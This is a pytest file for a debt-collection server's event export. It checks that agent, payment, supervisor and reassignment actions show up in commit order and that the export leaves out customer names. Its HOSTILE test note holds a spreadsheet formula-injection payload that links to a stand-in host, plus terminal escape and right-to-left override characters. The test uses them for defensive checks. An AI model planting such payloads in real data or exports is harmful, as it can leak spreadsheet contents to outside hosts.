"""The change export through the real server: every kind of event appears after the real action that
makes it (an agent's workstation syncing, the payments feed, a supervisor's decision, a move), with
the fields docs/export.md lists, in commit order, and never with a customer's name."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import NOW
from export_support import export_headers, of_kind, read_all
from sync_support import PCR, auth_headers, integration_headers, make_station, push_commands, running_server

from cobro_tui.clock import FixedClock
from cobro_tui.domain.ids import new_id
from cobro_tui.domain.models import Channel
from cobro_tui.domain.money import Money
from cobro_tui.domain.records import instant_text
from cobro_tui.policy import Policy
from cobro_tui.server.feed import get_doc
from cobro_tui.server.keeping import sweep

# What an agent might type into a note: a formula, quotes, commas, a line break, accents, a
# right-to-left override and terminal escapes (the last two the server removes where text enters).
HOSTILE = (
    '=HYPERLINK("http://x.example/?q="&A1,"clic"), +52 55, -1, @SUM(A1)\n"dijo: ¡no!", ñandú \u202e\x1b[31mrojo\x1b[0m'
)


@pytest.fixture
def server(tmp_path: Path):
    with running_server(tmp_path, accounts=300, seed=5) as running:
        yield running


def _points(station, customer_id: str) -> list[tuple[str, str]]:
    with station.cache.connect() as conn:
        return [
            tuple(r)
            for r in conn.exec_driver_sql(
                "SELECT id, value FROM contact_point WHERE customer_id = ? AND kind = 'mobile' AND NOT opted_out ORDER BY id",
                (customer_id,),
            )
        ]


def _pay(url: str, headers: dict[str, str], account_id: str, centavos: int) -> dict[str, Any]:
    body = {
        "id": new_id(),
        "account_id": account_id,
        "amount_centavos": centavos,
        "paid_on": NOW.date().isoformat(),
        "channel": "spei",
        "reference": "SPEI-1",
    }
    answer = httpx.post(f"{url}/v1/payments", json=body, headers=headers)
    assert answer.status_code == 200, answer.text
    return answer.json()


def test_every_kind_of_event_appears_after_its_action_in_commit_order(
    tmp_path: Path, server, clock: FixedClock, policy: Policy
) -> None:
    from cobro_tui.bootstrap import build_workstation
    from cobro_tui.domain.models import PlanKind
    from cobro_tui.domain.plans import Frequency
    from cobro_tui.settings import load_settings

    engine, thread = server
    url = thread.url
    crm = export_headers(url)
    # Before anything happens: the seed's plans judged by the first read's sweep (grace ended), nothing else.
    before, start = read_all(url, crm)
    assert {e["kind"] for e in before} <= {"plan.outcome", "promise.outcome"}
    station = make_station(tmp_path, "agent", url, "agente01", clock, policy)
    assert station.round().ok
    ws = build_workstation(station.cache, load_settings(), clock, policy, "agente01", "live")
    accounts = station.accounts()
    files = {a: ws.accounts.open(a).file for a, _ in accounts}
    free = [(a, c) for a, c in accounts if not files[a].open_promises() and not files[a].plans]

    # A contact with its PCR on the customer's phone, with hostile notes; a note.
    contacted, customer = next((a, c) for a, c in free if _points(station, c))
    point_id, phone = _points(station, customer)[0]
    logged = station.contacts.log(
        account_id=contacted,
        customer_id=customer,
        channel=Channel.VOICE,
        result_code="PP",
        started_at=NOW - timedelta(minutes=4),
        ended_at=NOW - timedelta(minutes=1),
        contact_point_id=point_id,
        notes=HOSTILE,
        **PCR,
    )
    # Promises: one paid in two parts (partial, then kept), one left unpaid (broken), one cancelled.
    kept, broken, cancelled = (a for a, _ in free[1:4])
    promise_kept, _ = station.promise(kept, due=NOW.date() + timedelta(days=4))
    promise_broken, _ = station.promise(broken, due=NOW.date())
    promise_cancelled, _ = station.promise(cancelled, due=NOW.date() + timedelta(days=4))
    assert station.round().ok
    note_id = new_id()
    verdicts = push_commands(
        station,
        engine,
        ("note.add@1", {"id": note_id, "account_id": contacted, "text": HOSTILE}),
        ("promise.cancel@1", {"promise_id": promise_cancelled.id, "account_id": cancelled}),
        (
            "restriction.request@1",
            {
                "id": (opt_out := new_id()),
                "customer_id": customer,
                "kind": "opt_out",
                "created_at": NOW.isoformat(),
                "contact_point_id": point_id,
                "channel": "voice",
                "note": "no quiere llamadas a este número",
            },
        ),
        (
            "restriction.request@1",
            {"id": (cease := new_id()), "customer_id": customer, "kind": "cease", "created_at": NOW.isoformat()},
        ),
    )
    assert [v["status"] for v in verdicts] == ["applied"] * 4, verdicts
    payments = integration_headers(url)
    half = promise_kept.amount.centavos // 2
    assert _pay(url, payments, kept, half)["promises"][0]["status"] == "partial"
    assert _pay(url, payments, kept, promise_kept.amount.centavos - half)["promises"][0]["status"] == "kept"
    assert sweep(engine, NOW + timedelta(days=10)) >= 1

    # Plans: a settlement within the agent's discount, one above it (approved), a restructure (denied).
    late = [a for a, _ in free[4:] if files[a].account.bucket in ("120+", "castigo")][:2]
    late += [a for a, _ in free[4:] if files[a].account.bucket in ("60-89", "90-119")][:1]
    assert len(late) == 3
    first_due = NOW.date() + timedelta(days=5)

    def settle(account_id: str, percent_off: int):
        account = ws.accounts.open(account_id).file.account
        pay = Money(account.balance.centavos - account.balance.centavos * percent_off // 100)
        return ws.plans.propose(account_id, pay, Money(0), 1, first_due, Frequency.MONTHLY, kind=PlanKind.SETTLEMENT)

    mine = settle(late[0], 10)
    above = settle(late[1], policy.offers.settlement.discounts("120+", 0)["agent"] + 5)
    owed = ws.accounts.open(late[2]).file.account.balance
    down = Money(-(-owed.centavos * policy.offers.restructure.min_down_percent // 100))
    restructure = ws.plans.propose(late[2], owed, down, 24, first_due, Frequency.MONTHLY, kind=PlanKind.RESTRUCTURE)
    report = station.round()
    assert report.ok and report.held == 2
    supervisor = auth_headers(url, "supervisor01")
    waiting = {w["args"]["id"]: w for w in httpx.get(f"{url}/v1/approvals", headers=supervisor).json()}
    for plan_id, decision in ((above.id, "approve"), (restructure.id, "deny")):
        answer = httpx.post(
            f"{url}/v1/approvals/{waiting[plan_id]['mutation_id']}",
            headers=supervisor,
            json={"decision": decision, "reason": "revisado con el cliente por teléfono"},
        )
        assert answer.status_code == 200, answer.text

    # The settlement paid in full through the payments feed: the plan is judged.
    _pay(url, payments, late[0], mine.total.centavos)

    # A supervisor moves the contacted account to another agent.
    where = f"{url}/v1/accounts/{contacted}/assignment"
    etag = httpx.get(where, headers=supervisor).headers["ETag"]
    moved = httpx.put(where, json={"agent": "agente02"}, headers={**supervisor, "If-Match": etag})
    assert moved.status_code == 200

    events, _ = read_all(url, crm, cursor=start, limit=3)
    seqs = [e["seq"] for e in events]
    assert seqs == sorted(set(seqs))
    with engine.connect() as conn:
        contacted_doc = get_doc(conn, "account", contacted)
        stored_notes = get_doc(conn, "contact_attempt", logged.attempt.id).data["notes"]  # type: ignore[union-attr]
        customer_name = get_doc(conn, "customer", customer).data["full_name"]  # type: ignore[union-attr]
    assert contacted_doc is not None
    assert "\x1b" not in stored_notes and "\u202e" not in stored_notes and stored_notes.startswith("=HYPERLINK")
    number = contacted_doc.data["number"]

    (contact,) = of_kind(events, "contact.logged")
    assert contact["id"] == logged.attempt.id and contact["account_number"] == number
    assert (contact["result_code"], contact["right_party_contact"], contact["agent"]) == ("PP", True, "agente01")
    assert (contact["problem_code"], contact["circumstance"], contact["resolution"]) == (
        PCR["problem_code"],
        PCR["circumstance"],
        PCR["resolution"],
    )
    assert contact["contact_point_id"] == point_id and contact["contact_point_value"] == phone
    assert contact["notes"] == stored_notes and contact["started_at"] == instant_text(NOW - timedelta(minutes=4))
    (note,) = of_kind(events, "note.added")
    assert note["id"] == note_id and note["text"] == stored_notes and note["author"] == "agente01"

    created = {p["id"]: p for p in of_kind(events, "promise.created")}
    assert set(created) == {promise_kept.id, promise_broken.id, promise_cancelled.id}
    assert created[promise_kept.id]["amount_centavos"] == promise_kept.amount.centavos
    assert created[promise_kept.id]["approved_by"] is None
    assert [(p["id"], p["cancelled_by"]) for p in of_kind(events, "promise.cancelled")] == [
        (promise_cancelled.id, "agente01")
    ]
    ours = (promise_kept.id, promise_broken.id)  # the sweep ten days on breaks the seed's own promises too
    outcomes = [
        (p["id"], p["previous_status"], p["status"], p["paid_centavos"] or 0)
        for p in of_kind(events, "promise.outcome")
        if p["id"] in ours
    ]
    assert outcomes == [
        (promise_kept.id, "open", "partial", half),
        (promise_kept.id, "partial", "kept", promise_kept.amount.centavos),
        (promise_broken.id, "open", "broken", 0),
    ]

    plans = {p["id"]: p for p in of_kind(events, "plan.created")}
    assert set(plans) == {mine.id, above.id}  # the restructure was denied: never created
    assert plans[mine.id]["plan_kind"] == "settlement" and plans[mine.id]["approved_by"] is None
    assert plans[mine.id]["total_centavos"] == mine.total.centavos and plans[mine.id]["forgiven_centavos"] > 0
    assert plans[above.id]["approved_by"] == "supervisor01"
    (judged,) = [p for p in of_kind(events, "plan.outcome") if p["id"] == mine.id]
    assert judged["previous_status"] == "proposed" and judged["status"] == "completed"
    assert [i["status"] for i in judged["installments"]] == ["kept"]
    requested = {a["subject_id"]: a for a in of_kind(events, "approval.requested")}
    assert set(requested) == {above.id, restructure.id}
    assert requested[restructure.id]["subject_kind"] == "restructure" and requested[restructure.id]["level"]
    decided = {a["subject_id"]: a for a in of_kind(events, "approval.decided")}
    assert {k: (v["decision"], v["decided_by"], v["result"]) for k, v in decided.items()} == {
        above.id: ("approved", "supervisor01", "applied"),
        restructure.id: ("denied", "supervisor01", "rejected"),
    }
    assert decided[above.id]["reason"] == "revisado con el cliente por teléfono"
    assert decided[above.id]["decided_at"] == instant_text(NOW) and decided[above.id]["decided_by_role"] == "supervisor"

    restrictions = {r["id"]: r for r in of_kind(events, "restriction.recorded")}
    assert restrictions[opt_out]["restriction_kind"] == "opt_out"
    assert restrictions[opt_out]["contact_point_value"] == phone and restrictions[opt_out]["channel"] == "voice"
    assert contacted in restrictions[opt_out]["account_ids"] and number in restrictions[opt_out]["account_numbers"]
    assert restrictions[cease]["restriction_kind"] == "cease" and restrictions[cease]["contact_point_value"] is None

    (move,) = of_kind(events, "account.reassigned")
    assert move == {
        "account_id": contacted,
        "account_number": number,
        "from_agent": "agente01",
        "to_agent": "agente02",
        "by": "supervisor01",
        "at": instant_text(NOW),
    }
    # Each event came after the one before it was committed: the payment's outcomes after the promise,
    # the approved plan after its request, the move last.
    order = [e["kind"] for e in events]
    assert order.index("promise.created") < order.index("promise.outcome")
    assert order.index("approval.requested") < order.index("approval.decided")
    assert order[-1] == "account.reassigned"
    assert {e["kind"] for e in events} == {
        "contact.logged",
        "note.added",
        "promise.created",
        "promise.cancelled",
        "promise.outcome",
        "plan.created",
        "plan.outcome",
        "approval.requested",
        "approval.decided",
        "restriction.recorded",
        "account.reassigned",
    }
    # No customer's name, nor anything secret, is in the export.
    text = json.dumps(events, ensure_ascii=False)
    assert customer_name not in text and "password" not in text and "Bearer" not in text


def test_a_fact_sent_twice_and_a_refused_command_add_no_event(
    tmp_path: Path, clock: FixedClock, policy: Policy
) -> None:
    with running_server(tmp_path, accounts=40, seed=5) as (engine, thread):
        station = make_station(tmp_path, "agent", thread.url, "agente01", clock, policy)
        assert station.round().ok
        account_id, _ = station.accounts()[0]
        crm = export_headers(thread.url)
        _, start = read_all(thread.url, crm)  # the first read judges the seed's plans (their grace ended)
        note = {"id": new_id(), "account_id": account_id, "text": "una nota"}
        first = push_commands(station, engine, ("note.add@1", note))
        again = push_commands(station, engine, ("note.add@1", note))  # the same note under a new mutation id
        too_big = push_commands(
            station,
            engine,
            (
                "promise.create@1",
                {
                    "id": new_id(),
                    "account_id": account_id,
                    "amount": {"centavos": 10**13, "currency": "MXN"},
                    "due_on": (NOW.date() + timedelta(days=3)).isoformat(),
                    "channel": "spei",
                    "created_at": NOW.isoformat(),
                },
            ),
        )
        assert first[0]["status"] == again[0]["status"] == "applied" and too_big[0]["status"] == "rejected"
        events, _ = read_all(thread.url, crm, cursor=start)
        assert [e["kind"] for e in events] == ["note.added"]
